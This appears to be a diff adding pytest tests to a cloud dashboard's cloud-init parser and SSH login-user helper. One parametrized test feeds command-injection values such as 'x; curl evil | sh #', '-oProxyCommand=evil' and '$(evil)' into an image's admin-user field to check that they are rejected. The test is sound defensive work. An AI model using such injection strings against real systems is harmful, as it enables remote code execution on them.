@@ -4,6 +4,7 @@ import base64
 import re
 
 import pytest
+import yaml
 
 from dashboard import cloud_init
 from dashboard.panels import launch_text
@@ -154,6 +155,22 @@ def test_a_review_as_terraform():
     assert 'network_mode = "auto"' in volume and 'destination_type = "volume"' in volume and "image_id" not in volume
 
 
+def test_many_keys_that_cloud_init_does_not_know_take_no_time(monkeypatch):
+    """To find what one of them may have meant takes a millisecond, in which no other page is served."""
+    asked = []
+    monkeypatch.setattr("dashboard.cloud_init.difflib.get_close_matches", lambda *about: asked.append(about) or [])
+    assert len(cloud_init.doubts("#cloud-config\n" + "".join(f"runcmd{n}: 1\n" for n in range(1000)))) == 5
+    assert len(asked) == 5
+
+
+def test_user_data_is_read_while_other_pages_are_served(monkeypatch):
+    """60 kB of YAML take a second."""
+    run = []
+    monkeypatch.setattr("common.native.EXECUTOR", lambda work, *about, **more: run.append(work) or work(*about, **more))
+    assert "in line 2" in cloud_init.mistake("#cloud-config\na: [") and cloud_init.doubts("#cloud-config\nb: 1")
+    assert run == [yaml.load] * 2
+
+
 def test_the_review_shows_the_same_for_other_tools(browser):
     browser.open(WHERE).post(WHERE, name="seen", user_data="#cloud-config\npackage: [a]", step="review")
     words = browser.words()
@@ -165,6 +182,11 @@ def test_who_logs_in():
     assert [user_of(i) for i in ({"name": "Ubuntu 24.04"}, {"name": "x", "os_distro": "debian"}, {"os_admin_user": "me"}, {},
                                  None,
                                  {"name": "mine"})] == ["ubuntu", "debian", "me", "", "", ""]
+
+
+@pytest.mark.parametrize("hostile", ["x; curl evil | sh #", "-oProxyCommand=evil", "$(evil)", "a b", "a\nb", "x" * 33, "me\n"])
+def test_an_image_of_others_puts_nothing_into_the_command_for_the_shell(hostile):
+    assert user_of({"os_admin_user": hostile, "os_distro": "debian"}) == "debian" and user_of({"os_admin_user": hostile}) == ""
 
 
 def test_whether_a_group_lets_ssh_in():
